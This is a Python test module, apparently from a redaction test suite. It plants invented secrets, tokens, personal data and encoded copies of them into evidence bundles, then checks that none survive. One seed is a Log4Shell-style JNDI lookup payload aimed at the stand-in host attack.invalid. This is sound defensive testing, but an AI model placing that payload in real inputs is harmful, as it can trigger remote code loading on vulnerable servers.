"""Bundles with values of every kind in everything that people write into evidence, and what to look for afterwards.

Each free text gets one value in a sentence that tells what it is, and another value alone, in some encoding: that one
is known only because another text tells.
"""

from __future__ import annotations

import base64
import hashlib
import html
import json
import re
import shutil
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import yaml

from evreview.core.document_text import parse_text
from tests.redaction.labelled.case import HEX, UPPER, WORD, Maker
from tests.redaction.labelled.national import belgium
from tests.redaction.labelled.personal import iban

_MAKE: Final = Maker("sweep")


@dataclass(frozen=True, slots=True)
class Seed:
    """One value, and a sentence that tells what it is."""

    kind: str
    value: str = field(repr=False)
    told: str = field(repr=False)


def _seed(kind: str, value: str, told: str) -> Seed:
    return Seed(kind, value, told.format(value))


SEEDS: Final = (
    _seed("secret", _MAKE.of(WORD, 20), "db_password: {}"),
    _seed("credential", _MAKE.of(WORD, 16), "postgres://orders:{}@db.example.com/orders"),
    _seed("vendor token", "gh" + "p_" + _MAKE.of(WORD, 36), "it sent {} once"),
    _seed("bearer value", _MAKE.of(WORD, 32), "Authorization: Bearer {}"),
    _seed("header", _MAKE.of(HEX, 40), "X-Api-Key: {}"),
    _seed("cookie", _MAKE.of(WORD, 28), "Cookie: theme=dark; session={}"),
    _seed("mail address", "ines.moreau41" + "@" + "harbourline.fr", "said {}"),
    _seed("phone number", "+33 6 48 21 73 90", "call {}"),
    _seed("account", iban("NL", "4a10n", _MAKE), "paid to {}"),
    _seed("national number", belgium(_MAKE), "of {}"),
    _seed("customer", "C-" + _MAKE.of(UPPER, 4) + "48213977", "customer_id={}"),
    _seed("trace", "org.harbour.orders.StoreException: row 48213 is locked", "it raised {}"),
    _seed("host", "ledger-7.pay41." + "internal", "it runs on https://{}/v1"),
    _seed("path", "/home/ines41/orders/" + "handlers.py", "in {}"),
    _seed("exploit", "${jn" + "di:ldap://attack.invalid/a41}", "the payload {}"),
)
ENCODINGS: Final[tuple[Callable[[str], str], ...]] = (
    str,
    lambda value: base64.b64encode(value.encode()).decode(),
    lambda value: base64.b64encode(f"id:{value};".encode()).decode(),
    lambda value: quote(value, safe=""),
    lambda value: value.encode().hex(),
    lambda value: html.escape(value),
)
_PROSE: Final = frozenset(
    {"description", "summary", "text", "reason", "note", "notes", "establishes", "why", "observed", "instruction"}
    | {"said"}
    | {"detail", "message", "statement", "assumption", "comment", "environment", "purpose", "basis", "states"}
)
"""Members that hold what people say, not what a schema closes."""
_CLOSED: Final = frozenset({"production", "other"})
"""The environments that counts of use name."""
_LISTS: Final = frozenset({"assumptions", "exclusions", "notes"})


class Planter:
    """Hands out what is planted: the sentences in turn, and beside each another value in some encoding."""

    def __init__(self, *, values: bool) -> None:
        self.count = 0
        self.values = values

    def words(self) -> str:
        """The next piece of text, in one line."""
        told, alone = SEEDS[self.count % len(SEEDS)], SEEDS[(self.count * 7 + 3) % len(SEEDS)]
        encode = ENCODINGS[self.count % len(ENCODINGS)]
        self.count += 1
        return f"{told.told} ; {encode(alone.value)}"

    def everywhere(self, value: Any, key: str = "") -> Any:
        """The document with something planted in every free text."""
        if isinstance(value, Mapping):
            return {name: self.everywhere(part, str(name)) for name, part in value.items()}
        if isinstance(value, list):
            return [self.everywhere(part, f"{key}[]") for part in value]
        if key == "environment" and value in _CLOSED:
            return value
        free = key in _PROSE or key.removesuffix("[]") in _LISTS
        return f"{value.rstrip()} {self.words()}" if isinstance(value, str) and free else value


def seeded(source: Path, target: Path, *, values: bool) -> Planter:
    """A copy of a bundle with something planted in every file; digests are renewed.

    With `values`, members of contracts hold values alone too; a review then has more rows than its evidence speaks of,
    and ends earlier.
    """
    shutil.copytree(source, target)
    planter = Planter(values=values)
    for path in sorted(path for path in target.rglob("*") if path.is_file() and path.name != "review.yaml"):
        before = path.read_bytes()
        path.write_bytes(_planted(path, before.decode(), planter).encode())
        _renew(target, before, path.read_bytes())
    review = target / "review.yaml"
    review.write_text(_document(review.read_text(), planter), encoding="utf-8")
    return planter


def _renew(bundle: Path, before: bytes, after: bytes) -> None:
    old, new = (hashlib.sha256(data).hexdigest() for data in (before, after))
    for path in bundle.rglob("*.yaml"):
        text = path.read_text(encoding="utf-8")
        if old in text:
            path.write_text(text.replace(old, new), encoding="utf-8")
            _renew(bundle, text.encode(), path.read_bytes())


def _planted(path: Path, text: str, planter: Planter) -> str:
    match path.suffix:
        case ".yaml" | ".json" | ".sarif":
            return _document(text, planter)
        case ".py" | ".conf":
            return text + "".join(f"\n# {planter.words()}" for _ in SEEDS) + "\n"
        case ".diff":
            return re.sub(r"(?m)^(\+\w.*)$", lambda line: f"{line[1]}  # {planter.words()}", text, count=8)
        case ".xml":
            named = r"(<testsuite [^>]*?name=\"[^\"]*)\""
            return re.sub(named, lambda at: f'{at[1]} {html.escape(planter.words())}"', text)
        case ".md" if re.search(r"(?m)^kind: ", text):
            return _document(text, planter)
        case ".md":
            return text + "".join(f"\n{planter.words()}\n" for _ in SEEDS)
    return text


def _document(text: str, planter: Planter) -> str:
    plain = json.loads(json.dumps(parse_text(text.encode(), "planted"), default=str))
    planted = planter.everywhere(plain)
    if planter.values and isinstance(planted, dict) and "openapi" in planted:
        _plant_values(planted, planter)
    if text.lstrip().startswith("{"):
        return json.dumps(planted, ensure_ascii=False, indent=1)
    return yaml.safe_dump(planted, sort_keys=False, allow_unicode=True, width=100_000)


def _plant_values(contract: dict[str, Any], planter: Planter) -> None:
    """Values alone where contracts hold them: defaults, examples, enumerations. What they are is told at the top."""
    contract["info"]["description"] = "\n".join(["Invented.", *(seed.told for seed in SEEDS)])
    for name, schema in contract.get("components", {}).get("schemas", {}).items():
        if not isinstance(schema.get("properties"), dict):
            continue
        version, alone = contract["info"]["version"], SEEDS[planter.count % len(SEEDS)].value
        planter.count += 1
        schema["properties"][f"planted{len(version)}"] = {
            "type": "string",
            "description": f"Of {name}, {version}. {planter.words()}",
            "default": f"{alone} {version}",
            "example": alone,
            "enum": [alone, f"{alone} {version}", *(f"{seed.value} in {version}" for seed in SEEDS[:4])],
        }


@cache
def needles() -> tuple[tuple[str, str, str], ...]:
    """What must not stand anywhere: kind, value in every encoding, and that without blanks."""
    return tuple((seed.kind, form, re.sub(r"\s", "", form)) for seed in SEEDS for form in sorted(_forms(seed.value)))


def _forms(value: str) -> set[str]:
    return {
        value,
        value.encode().hex(),
        quote(value, safe=""),
        html.escape(value),
        json.dumps(value)[1:-1],
        value.replace("_", "\\_").replace("-", "\\-"),
        *_in_base64(value),
    }


def _in_base64(value: str) -> Iterator[str]:
    for shift in range(3):
        whole = base64.b64encode(b"\0" * shift + value.encode()).decode().rstrip("=")
        yield whole[(0, 2, 3)[shift] : (shift + len(value.encode())) * 8 // 6]


def kept(text: str) -> list[str]:
    """The kinds of values that stand in a text, also split over lines or set apart by blanks."""
    bare = re.sub(r"\s", "", text)
    return sorted({kind for kind, form, squeezed in needles() if form in text or squeezed in bare})
